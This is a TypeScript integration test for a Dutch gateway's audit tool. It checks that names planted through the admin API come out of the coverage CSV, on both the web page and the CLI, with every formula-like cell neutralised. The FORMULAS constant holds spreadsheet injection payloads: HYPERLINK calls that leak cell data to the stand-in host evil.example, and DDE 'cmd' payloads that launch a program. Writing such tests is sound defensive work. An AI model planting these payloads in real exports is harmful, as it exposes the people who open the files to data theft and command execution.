/**
 * Formula injection into the auditor's CSV, against `pnpm start`: the registry's administrator (or
 * anyone who controls a name in the registry) names an organisation and a verwerkingsactiviteit as a
 * spreadsheet formula, through the admin API; the coverage report's CSV, from the auditor's page and
 * from `poortwachter audit coverage --format csv` (the CLI as a child process), carries no live
 * formula: every cell that starts with = + - @ (or a tab or carriage return) is neutralised.
 */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { DEMO_OIN, DEMO_PROCESSING_ACTIVITY } from '@poortwachter/seeds';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { runCli } from '../run-process.ts';
import { type RunningSystem, startSystem } from '../start-system.ts';
import { type RawJwk, sendRaw } from './raw-client.ts';

const FORMULAS = {
  utrecht: '=HYPERLINK("https://evil.example/?leak="&B2,"x")',
  uwv: "@SUM(1+1)*cmd|' /C calc'!A0",
  rotterdam: "-2+3+cmd|' /C calc'!A0",
  wmo: '+HYPERLINK("https://evil.example/?"&C2;"klik")',
};

/** An RFC 4180 reader, apart from the project's writer: the cells as a spreadsheet gets them. */
function readCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i] as string;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
    } else cell += c;
  }
  return rows;
}

/** Every cell a spreadsheet would run: starting with = + - @, a tab or a carriage return, and not a number. */
const liveFormulas = (csv: string) =>
  readCsv(csv)
    .flat()
    .filter((cell) => /^[=+\-@\t\r]/.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell));

async function cli(args: string[], env: Record<string, string>) {
  const { code, out } = await runCli(args, { env });
  return { code, stdout: out };
}

describe("no live formula in the auditor's CSV, whatever the registry's names", () => {
  let system: RunningSystem;
  let registry: string;
  let adminToken: string;

  const admin = async (method: 'GET' | 'PUT', path: string, body?: unknown) => {
    const res = await fetch(`${registry}/v1${path}`, {
      method,
      headers: { authorization: `Bearer ${adminToken}`, 'content-type': 'application/json' },
      ...(body === undefined ? {} : { body: JSON.stringify(body) }),
    });
    expect(res.status, `${method} ${path}: ${await res.clone().text()}`).toBeLessThan(300);
    return (await res.json()) as Record<string, unknown>;
  };

  /** Renames an organisation through the admin API, keeping what else it is. */
  async function renameOrganisation(oin: string, name: string) {
    const { kind, roles, privacyContact, webOrigins } = await admin('GET', `/organisations/${oin}`);
    await admin('PUT', `/organisations/${oin}`, {
      name,
      kind,
      roles,
      ...(privacyContact ? { privacyContact } : {}),
      ...(webOrigins ? { webOrigins } : {}),
    });
  }

  /** A new version of a verwerkingsactiviteit with another name, from now on. */
  async function renameActivity(id: string, name: string) {
    const activity = (await admin('GET', `/processing-activities/${encodeURIComponent(id)}`)) as {
      versions: Record<string, unknown>[];
    };
    const { doel, grondslagIds, responsibleOin, bewaartermijn, vertrouwelijkheid } = activity.versions.at(-1) ?? {};
    await admin('PUT', `/processing-activities/${encodeURIComponent(id)}`, {
      name,
      doel,
      grondslagIds,
      responsibleOin,
      bewaartermijn,
      vertrouwelijkheid,
    });
  }

  /** Waits until the gateway works with a directory at least as new as the registry's now. */
  async function gatewayHasNewestDirectory() {
    const serial = ((await (await fetch(`${registry}/readyz`)).json()) as { serial: number }).serial;
    for (let i = 0; i < 400; i++) {
      const ready = (await (await fetch(`http://127.0.0.1:${system.ports.gateway}/readyz`)).json()) as {
        directory: { serial: number };
      };
      if (ready.directory.serial >= serial) return;
      await new Promise((resolve) => setTimeout(resolve, 250));
    }
    throw new Error(`the gateway did not take directory serial ${serial}`);
  }

  beforeAll(async () => {
    system = await startSystem({ env: { DIRECTORY_REFRESH_SECONDS: '1' } });
    registry = `http://localhost:${system.ports.registry}`;
    adminToken = readFileSync(join(system.data, 'registry-admin-token'), 'utf8').trim();
    await renameOrganisation(DEMO_OIN.utrecht, FORMULAS.utrecht);
    await renameOrganisation(DEMO_OIN.uwv, FORMULAS.uwv);
    await renameOrganisation(DEMO_OIN.rotterdam, FORMULAS.rotterdam);
    await renameActivity(DEMO_PROCESSING_ACTIVITY.utrechtWmo, FORMULAS.wmo);
    await gatewayHasNewestDirectory();
    // One access under the renamed names, so that a coverage row carries them.
    const key = JSON.parse(readFileSync(join(system.data, 'keys', `${DEMO_OIN.utrecht}.jwk.json`), 'utf8')) as RawJwk;
    const res = await sendRaw(`http://127.0.0.1:${system.ports.gateway}`, {
      method: 'POST',
      targetUri: `http://localhost:${system.ports.gateway}/personen`,
      key,
      processingActivity: DEMO_PROCESSING_ACTIVITY.utrechtWmo,
      body: JSON.stringify({
        type: 'RaadpleegMetBurgerservicenummer',
        burgerservicenummer: ['999993653'],
        fields: ['naam.geslachtsnaam'],
      }),
    });
    expect(res.status, await res.text()).toBe(200);
  }, 180_000);

  afterAll(async () => {
    await system?.stop();
  });

  /** The CSV holds the names, each neutralised, and no live formula at all. */
  function expectNeutralised(csv: string) {
    expect(csv.split('\n')[0]).toMatch(/^kind,gateway,afnemer,/);
    expect(liveFormulas(csv)).toEqual([]);
    const cells = readCsv(csv).flat();
    // The afnemer of the coverage row, the activity of that row, and the names in the findings.
    expect(cells).toContain(`'${FORMULAS.utrecht}`);
    expect(cells).toContain(`'${FORMULAS.wmo}`);
    expect(cells).toContain(`'${FORMULAS.uwv}`);
  }

  it("the auditor's page's coverage.csv", async () => {
    const today = new Date().toISOString().slice(0, 10);
    const res = await fetch(`http://127.0.0.1:${system.ports.auditor}/coverage.csv?from=${today}&to=${today}`);
    const csv = await res.text();
    expect(res.status, csv.slice(0, 300)).toBe(200);
    expectNeutralised(csv);
  });

  it('poortwachter audit coverage --format csv', async () => {
    const { code, stdout } = await cli(['audit', 'coverage', '--format', 'csv'], {
      DATA_DIR: system.data,
      REGISTRY_URL: registry,
    });
    expect([0, 1]).toContain(code);
    expectNeutralised(stdout);
  }, 60_000);
});
